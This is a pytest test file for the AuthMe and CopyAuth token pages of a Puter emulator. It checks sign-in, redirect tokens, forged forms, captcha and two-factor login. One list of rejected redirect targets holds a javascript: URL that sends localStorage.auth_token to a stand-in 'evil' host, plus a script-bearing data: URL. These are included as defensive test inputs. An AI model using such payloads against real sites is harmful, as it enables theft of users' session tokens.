"""The AuthMe and CopyAuth pages and the captcha switch, over real HTTP (no browser: forms).

The browser end to end is tests/cli/test_cli_browser_login.py; these pin the page contract."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pytest

from puterfs.emulator.auth import totp
from puterfs.emulator.testing import EmulatorProcess, local_http

OTP_SECRET = "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP"


@pytest.fixture(scope="module")
def emu(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EmulatorProcess]:
    with EmulatorProcess(tmp_path_factory.mktemp("authme-emu"), username="alice", password="alicepass") as proc:
        yield proc


@pytest.fixture
def browser(emu: EmulatorProcess) -> Iterator[httpx.Client]:
    """A cookie-keeping client on the root host (where the pages are) that does not follow
    redirects (we look at them); API calls name ``emu.url``."""
    emu.set_captcha(False)
    with local_http.Client(base_url=emu.web_url, timeout=30, follow_redirects=False) as client:
        yield client
    emu.set_captcha(False)


def _field(page: str, name: str) -> str:
    m = re.search(rf"name='{name}' value='([^']*)'", page)
    assert m, f"no {name} in page"
    return m.group(1)


def authme(redirect: str, **extra: str) -> str:
    return "/?" + urlencode({"action": "authme", "redirectURL": redirect, **extra})


def sign_in(client: httpx.Client, url: str, username: str = "alice", password: str = "alicepass") -> httpx.Response:
    page = client.get(url)
    assert page.status_code == 200 and "id='password'" in page.text
    form = {"step": "login", "username": username, "password": password}
    if "captchaToken" in page.text:
        form["captchaToken"] = _field(page.text, "captchaToken")
        form["captchaAnswer"] = re.search(r"<text[^>]*>(\w+)</text>", page.text).group(1)  # type: ignore[union-attr]
    return client.post(url, data=form)


def approve(client: httpx.Client, url: str, **extra: str) -> httpx.Response:
    page = client.get(url)
    assert page.status_code == 200 and "id='approve'" in page.text, page.text
    return client.post(url, data={"step": "authme", "form_key": _field(page.text, "form_key"),
                                  "decision": "approve", **extra})


def test_authme_signs_in_approves_and_redirects_with_a_full_api_access_token(
    browser: httpx.Client, emu: EmulatorProcess
) -> None:
    url = authme("http://127.0.0.1:9/cb/s3cr3t?keep=1&token=old#frag")
    r = sign_in(browser, url)
    assert r.status_code == 303 and r.headers["location"] == url
    dialog = browser.get(url)
    assert "A restricted API token" in dialog.text and "http://127.0.0.1:9/cb/s3cr3t" in dialog.text
    r = approve(browser, url)
    assert r.status_code == 303
    target = urlsplit(r.headers["location"])
    assert (target.scheme, target.netloc, target.path, target.fragment) == ("http", "127.0.0.1:9", "/cb/s3cr3t", "frag")
    query = parse_qs(target.query)
    assert query["keep"] == ["1"] and len(query["token"]) == 1 and query["token"][0] != "old"
    token = query["token"][0]
    api = {"Authorization": f"Bearer {token}"}
    assert browser.get(emu.url + "/whoami", headers=api).json()["username"] == "alice"
    assert browser.post(emu.url + "/stat", json={"path": "~"}, headers=api).status_code == 200
    # an access token cannot mint more tokens (only user sessions can)
    r = browser.post(emu.url + "/auth/create-access-token", json={"permissions": ["full-api-access"]}, headers=api)
    assert r.status_code == 403
    # revoking it makes it a refused token (what the mount's lifecycle tests use)
    emu.revoke(token)
    assert browser.get(emu.url + "/whoami", headers=api).status_code == 401


@pytest.mark.parametrize(
    "target",
    ["javascript:fetch('//evil/'+localStorage.auth_token)//", "data:text/html,<script>alert(1)</script>",
     "ftp://example.com/x", "not a url", "http://"],
)
def test_authme_refuses_undeliverable_targets_before_anything(browser: httpx.Client, target: str) -> None:
    url = authme(target)
    page = browser.get(url)
    assert "not a valid web address" in page.text and "id='password'" not in page.text
    # even a signed-in user posting an approval gets nothing
    sign_in(browser, authme("http://127.0.0.1:9/x"))
    r = browser.post(url, data={"step": "authme", "decision": "approve", "form_key": "x"})
    assert r.status_code == 200 and "location" not in r.headers and "not a valid web address" in r.text


def test_authme_deny_and_forged_forms_send_nothing(browser: httpx.Client) -> None:
    url = authme("http://127.0.0.1:9/cb")
    sign_in(browser, url)
    page = browser.get(url)
    r = browser.post(url, data={"step": "authme", "form_key": _field(page.text, "form_key"), "decision": "deny"})
    assert r.status_code == 200 and "Authorization Cancelled" in r.text and "location" not in r.headers
    r = browser.post(url, data={"step": "authme", "form_key": "0" * 32, "decision": "approve"})
    assert r.status_code == 403 and "location" not in r.headers
    # no session cookie: the sign-in form again, no token
    browser.cookies.clear()
    r = browser.post(url, data={"step": "authme", "form_key": _field(page.text, "form_key"), "decision": "approve"})
    assert "location" not in r.headers and "id='password'" in r.text


def test_authme_wrong_password_stays_on_the_form(browser: httpx.Client) -> None:
    r = sign_in(browser, authme("http://127.0.0.1:9/cb"), password="wrongpass")
    assert r.status_code == 200 and "Incorrect password." in r.text and "puter_auth_token" not in r.headers.get(
        "set-cookie", "")
    r = sign_in(browser, authme("http://127.0.0.1:9/cb"), username="nobody_here")
    assert "Username not found." in r.text


def test_session_grade_only_for_loopback_and_after_typed_confirmation(browser: httpx.Client,
                                                                     emu: EmulatorProcess) -> None:
    remote = authme("https://example.com/cb", token_type="session")
    sign_in(browser, remote)
    page = browser.get(remote)
    assert "A restricted API token" in page.text and "id='confirm'" not in page.text
    local = authme("http://localhost:9/cb", token_type="session")
    page = browser.get(local)
    assert "A full account session" in page.text and "id='confirm'" in page.text
    r = approve(browser, local, confirm="yes please")
    assert r.status_code == 200 and "location" not in r.headers and "grant full access" in r.text
    r = approve(browser, local, confirm="  Grant Full ACCESS ")
    assert r.status_code == 303
    token = parse_qs(urlsplit(r.headers["location"]).query)["token"][0]
    # a GUI session token may mint access tokens; an access token may not
    r = browser.post(emu.url + "/auth/create-access-token", json={"permissions": ["full-api-access"]},
                     headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200


def test_copyauth_shows_a_labelled_token_once(browser: httpx.Client, emu: EmulatorProcess) -> None:
    sign_in(browser, "/?action=copyauth")
    page = browser.get("/?action=copyauth")
    assert "Create API Token" in page.text
    key = _field(page.text, "form_key")
    r = browser.post("/?action=copyauth", data={"step": "copyauth", "form_key": key, "label": " ", "expiry": ""})
    assert "Please enter a label" in r.text
    r = browser.post("/?action=copyauth", data={"step": "copyauth", "form_key": key, "label": "cli", "expiry": "7d"})
    token = re.search(r"id='token' class='token-input' readonly value='([^']+)'", r.text).group(1)  # type: ignore[union-attr]
    assert browser.get(emu.url + "/whoami", headers={"Authorization": f"Bearer {token}"}).json()["username"] == "alice"


def test_captcha_switch_refuses_scripted_login_but_not_the_authme_page(
    browser: httpx.Client, emu: EmulatorProcess
) -> None:
    emu.set_captcha(True)
    r = browser.post("/login", json={"username": "alice", "password": "alicepass"})
    assert r.status_code == 400
    assert r.json() == {"error": "Captcha verification required.", "message": "Captcha verification required.",
                        "code": "bad_request"}
    assert browser.post("/signup", json={"is_temp": True}).status_code == 400
    gen = browser.get("/api/captcha/generate").json()
    answer = re.search(r"<text[^>]*>(\w+)</text>", gen["image"]).group(1)  # type: ignore[union-attr]
    bad = browser.post("/login", json={"username": "alice", "password": "alicepass",
                                       "captchaToken": gen["token"], "captchaAnswer": "nope"})
    assert bad.status_code == 400 and bad.json()["message"] == "Invalid captcha response."
    # one use each: the same captcha does not work twice
    again = browser.post("/login", json={"username": "alice", "password": "alicepass",
                                         "captchaToken": gen["token"], "captchaAnswer": answer})
    assert again.status_code == 400
    gen = browser.get("/api/captcha/generate").json()
    answer = re.search(r"<text[^>]*>(\w+)</text>", gen["image"]).group(1)  # type: ignore[union-attr]
    ok = browser.post("/login", json={"username": "alice", "password": "alicepass",
                                      "captchaToken": gen["token"], "captchaAnswer": answer.upper()})
    assert ok.status_code == 200 and ok.json()["token"]
    # the page still signs a person in (it shows the captcha)
    url = authme("http://127.0.0.1:9/cb")
    browser.cookies.clear()
    assert sign_in(browser, url).status_code == 303
    assert approve(browser, url).status_code == 303
    emu.set_captcha(False)
    assert browser.post("/login", json={"username": "alice", "password": "alicepass"}).status_code == 200


def test_authme_with_two_factor(tmp_path) -> None:  # noqa: ANN001
    with EmulatorProcess(tmp_path / "emu", username="bob", password="bobpass1", otp_secret=OTP_SECRET) as emu, \
            local_http.Client(base_url=emu.web_url, timeout=30, follow_redirects=False) as client:
        url = authme("http://127.0.0.1:9/cb")
        r = sign_in(client, url, "bob", "bobpass1")
        assert r.status_code == 200 and "id='code'" in r.text
        otp_jwt = _field(r.text, "otp_jwt_token")
        r = client.post(url, data={"step": "otp", "otp_jwt_token": otp_jwt, "code": "000000"})
        assert "Invalid code." in r.text
        r = client.post(url, data={"step": "otp", "otp_jwt_token": otp_jwt, "code": totp(OTP_SECRET)})
        assert r.status_code == 303
        assert approve(client, url).status_code == 303


def test_pages_live_on_the_root_host_only(emu: EmulatorProcess) -> None:
    with local_http.Client(base_url=emu.url, timeout=30) as client:
        api = client.get(authme("http://127.0.0.1:9/cb"), headers={"Host": f"api.puter.localhost:{emu.port}"})
        assert api.status_code == 404
        root = client.get(authme("http://127.0.0.1:9/cb"), headers={"Host": f"puter.localhost:{emu.port}"})
        assert root.status_code == 200 and "text/html" in root.headers["content-type"]
